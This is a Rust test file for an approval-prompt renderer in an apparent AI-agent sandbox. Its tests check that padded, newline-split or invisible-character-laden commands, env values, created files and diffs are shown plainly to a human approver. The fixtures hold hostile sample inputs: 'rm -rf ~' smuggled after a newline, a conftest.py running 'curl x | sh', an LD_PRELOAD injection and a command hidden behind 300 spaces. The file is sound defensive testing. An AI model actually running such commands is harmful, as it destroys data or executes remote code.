use super::*;
use ansa_sessions::protocol::{CreatedFile, DiffLine, EnvShown, FileDiff, Withheld};
use ansa_sessions::{CallId, RequestId};

fn request() -> ApprovalRequest {
    ApprovalRequest {
        request_id: RequestId(1),
        call_id: CallId("c1".into()),
        tool: "exec".into(),
        action: "v:1".into(),
        digest: "00".repeat(32),
        summary: "run sh".into(),
        argv: Vec::new(),
        cwd: None,
        env: Vec::new(),
        stdin: None,
        diffs: Vec::new(),
        actions: Vec::new(),
        created: Vec::new(),
        withheld: None,
        outside_sandbox: false,
    }
}

fn texts(rows: &[Row]) -> Vec<String> {
    rows.iter()
        .map(|r| format!("{}{}", r.mark, r.text))
        .collect()
}

#[test]
fn runs_of_whitespace_and_invisible_characters_are_made_visible() {
    assert_eq!(visible("a b"), "a b");
    assert_eq!(visible("a  b"), "a··b");
    assert_eq!(visible(&format!("a{}b", " ".repeat(8))), "a········b");
    assert_eq!(
        visible(&format!("echo hi{}; touch X", " ".repeat(300))),
        "echo hi␠×300; touch X"
    );
    assert_eq!(visible("trailing "), "trailing·");
    assert_eq!(visible("\tindented"), "→indented");
    assert_eq!(visible("esc\x1b[2Kx"), "esc␛[2Kx");
    assert_eq!(visible("cr\r"), "cr␍");
    assert_eq!(visible("nb\u{a0}sp"), "nb<U+00A0>sp");
    assert_eq!(visible("zero\u{200b}width"), "zero<U+200B>width");
    assert_eq!(visible("rtl\u{202e}txt"), "rtl<U+202E>txt");
    assert_eq!(visible("csi\u{9b}31m"), "csi<U+009B>31m");
    assert_eq!(visible("naïve café 日本"), "naïve café 日本");
    // Characters that draw as blank or as nothing are named, never passed through.
    assert_eq!(visible("a\u{2800}\u{2800}b"), "a<U+2800><U+2800>b");
    assert_eq!(visible("x\u{1d173}y\u{600}z"), "x<U+1D173>y<U+0600>z");
}

#[test]
fn an_exec_shows_its_whole_command_cwd_env_and_stdin() {
    let mut r = request();
    r.argv = vec![
        "sh".into(),
        "-c".into(),
        format!("echo hi{}; touch PWNED_TAIL", " ".repeat(300)),
    ];
    r.cwd = Some(".".into());
    r.env = vec![
        EnvShown {
            name: "PATH".into(),
            value: Some("/evil:/usr/bin".into()),
        },
        EnvShown {
            name: "HOME".into(),
            value: None,
        },
    ];
    r.stdin = Some("import os\n\tos.system('x')".into());
    assert_eq!(
        texts(&rows(&r)),
        vec![
            "$ sh -c 'echo hi␠×300; touch PWNED_TAIL'",
            "in . (the workspace root)",
            "env PATH=/evil:/usr/bin",
            "env unset HOME",
            "stdin (25 bytes, 2 lines):",
            "│ import os",
            "│ →os.system('x')",
            "(no newline at the end)",
        ]
    );
}

#[test]
fn a_newline_inside_an_argument_starts_a_marked_row() {
    let mut r = request();
    r.argv = vec!["sh".into(), "-c".into(), "true\nrm -rf ~".into()];
    assert_eq!(texts(&rows(&r)), vec!["$ sh -c 'true↵", "↳ rm -rf ~'"]);
}

#[test]
fn created_files_diffs_and_withheld_actions_are_all_shown() {
    let mut r = request();
    r.actions = vec!["create conftest.py".into(), "move a → b".into()];
    r.created = vec![CreatedFile {
        path: "conftest.py".into(),
        content: "import os\nos.system('curl x | sh')\n".into(),
    }];
    r.diffs = vec![FileDiff {
        path: "app.py".into(),
        added: 1,
        removed: 1,
        lines: vec![
            DiffLine {
                sign: DiffSign::Hunk,
                text: "line 3".into(),
            },
            DiffLine {
                sign: DiffSign::Context,
                text: "def f():".into(),
            },
            DiffLine {
                sign: DiffSign::Removed,
                text: "    return 1".into(),
            },
            DiffLine {
                sign: DiffSign::Added,
                text: "    return 2".into(),
            },
        ],
    }];
    r.withheld = Some(Withheld::Unshowable {
        what: "stdin from the retained value @3".into(),
    });
    assert_eq!(
        texts(&rows(&r)),
        vec![
            "create conftest.py",
            "move a → b",
            "content of conftest.py (35 bytes, 2 lines):",
            "│ import os",
            "│ os.system('curl x | sh')",
            "edit app.py (+1 −1)",
            "@@ line 3",
            "  def f():",
            "- ····return 1",
            "+ ····return 2",
            "stdin from the retained value @3 cannot be shown; the action can only be denied",
        ]
    );
}

#[test]
fn an_old_record_that_kept_only_the_first_diff_lines_says_so() {
    let mut r = request();
    r.diffs = vec![FileDiff {
        path: "a".into(),
        added: 30,
        removed: 0,
        lines: vec![DiffLine {
            sign: DiffSign::Added,
            text: "x".into(),
        }],
    }];
    let shown = texts(&rows(&r));
    assert_eq!(
        shown.last().map(String::as_str),
        Some("… 29 more changed lines were not recorded")
    );
}

#[test]
fn a_newline_in_an_env_value_cannot_pass_for_a_row_of_its_own() {
    let mut r = request();
    r.env = vec![ansa_sessions::protocol::EnvShown {
        name: "LD_PRELOAD".into(),
        value: Some("./x.so\nenv unset LD_PRELOAD".into()),
    }];
    let shown = texts(&rows(&r));
    assert!(
        shown.contains(&"env LD_PRELOAD=./x.so↵".to_owned()),
        "{shown:?}"
    );
    assert!(
        shown.contains(&"↳ env unset LD_PRELOAD".to_owned()),
        "{shown:?}"
    );
    assert!(
        !shown.contains(&"env unset LD_PRELOAD".to_owned()),
        "{shown:?}"
    );
}

#[test]
fn an_escalation_says_first_that_it_runs_outside_the_sandbox() {
    let mut r = request();
    r.argv = vec!["make".into(), "install".into()];
    assert!(rows(&r).iter().all(|row| !row.text.contains("OUTSIDE")));
    r.outside_sandbox = true;
    let all = rows(&r);
    assert_eq!(all[0].kind, RowKind::Warning);
    assert!(
        all[0].text.starts_with("runs OUTSIDE the sandbox"),
        "{:?}",
        all[0]
    );
    assert_eq!(all[1].kind, RowKind::Command, "the command follows");
}
